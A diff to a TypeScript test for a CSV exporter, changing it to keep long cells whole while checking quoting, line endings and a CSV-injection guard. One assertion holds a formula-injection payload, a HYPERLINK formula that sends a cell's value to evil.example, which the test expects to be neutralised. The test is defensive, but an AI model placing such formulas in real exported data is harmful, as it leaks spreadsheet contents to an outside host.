@@ -1,6 +1,8 @@
 /**
- * The csv export: UTF-8 BOM, RFC 4180 quoting, CRLF, dates in the zone, the CSV-injection guard; read back by
- * csv-parse (an independent RFC 4180 reader) and checked byte by byte where the format is the point.
+ * The csv export, the exact-data format: every character as given (no cut at Excel's cell limit, no control
+ * character removed), UTF-8 BOM, RFC 4180 quoting, CRLF, dates in the zone, and the CSV-injection guard as the
+ * one change; read back by csv-parse (an independent RFC 4180 reader) and checked byte by byte, against the
+ * rows given and against the values of a real SQLite cache.
  */
 import assert from 'node:assert/strict';
 import { readFileSync } from 'node:fs';
@@ -23,7 +25,8 @@ test('csv: BOM, header, CRLF, quoting, injection guard, dates and numbers', asyn
   const dir = tempDir(t);
   const outPath = join(dir, 'interactions.csv');
   const rows = HOSTILE.map((h, i) => ({ id: i + 1, text: h.input, created: Date.UTC(2025, 2, 9, 6, 59, 59) + i * 1000, score: i / 2 }));
-  rows.push({ id: 99, text: 'x'.repeat(40_000), created: Number.NaN, score: Number.NaN });
+  const long = 'x'.repeat(40_000) + '👍';
+  rows.push({ id: 99, text: long, created: Number.NaN, score: Number.NaN });
   const result = await writeExport({
     outPath,
     format: 'csv',
@@ -41,7 +44,7 @@ test('csv: BOM, header, CRLF, quoting, injection guard, dates and numbers', asyn
   const text = bytes.subarray(3).toString('utf8');
   assert.ok(text.startsWith('Id,Mensaje,Creación,Puntaje\r\n'), 'header, then CRLF');
   assert.ok(text.endsWith('\r\n'));
-  const inCells = HOSTILE.reduce((n, h) => n + h.expected.split('\r\n').length - 1, 0);
+  const inCells = HOSTILE.reduce((n, h) => n + h.input.split('\r\n').length - 1, 0);
   assert.equal(text.split('\r\n').length - 1, rows.length + 1 + inCells, 'CRLF ends every record (others are inside quoted cells)');
   // The formula-like cell, exactly as OWASP advises: quoted, with a leading apostrophe, inner quotes doubled.
   assert.ok(text.includes(`,"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",`));
@@ -55,13 +58,15 @@ test('csv: BOM, header, CRLF, quoting, injection guard, dates and numbers', asyn
   assert.deepEqual(data[0], ['Id', 'Mensaje', 'Creación', 'Puntaje']);
   assert.ok(text.includes(`,"one\ttwo\nthree\r\nfour\rfive",`), 'line breaks inside a quoted cell kept byte for byte');
   HOSTILE.forEach((h, i) => {
-    const expected = FORMULA_START.test(h.expected) ? `'${h.expected}` : h.expected;
+    // Every character kept; only a lone surrogate, which UTF-8 cannot hold, arrives as U+FFFD.
+    const kept = Buffer.from(h.input, 'utf8').toString('utf8');
+    const expected = FORMULA_START.test(kept) ? `'${kept}` : kept;
     assert.equal(data[i + 1]![1], expected, h.label);
     assert.equal(String(data[i + 1]![0]), String(i + 1));
     assert.equal(String(data[i + 1]![3]), String(i / 2));
   });
   const last = data[rows.length]!;
-  assert.ok(String(last[1]).length <= 32_767 && /… \[truncated: [\d,]+ characters\]$/.test(String(last[1])), 'cut with a marker');
+  assert.equal(last[1], long, 'longer than an Excel cell: kept whole');
   assert.deepEqual([last[2], last[3]], ['', ''], 'NaN date and number: empty');
 });
 
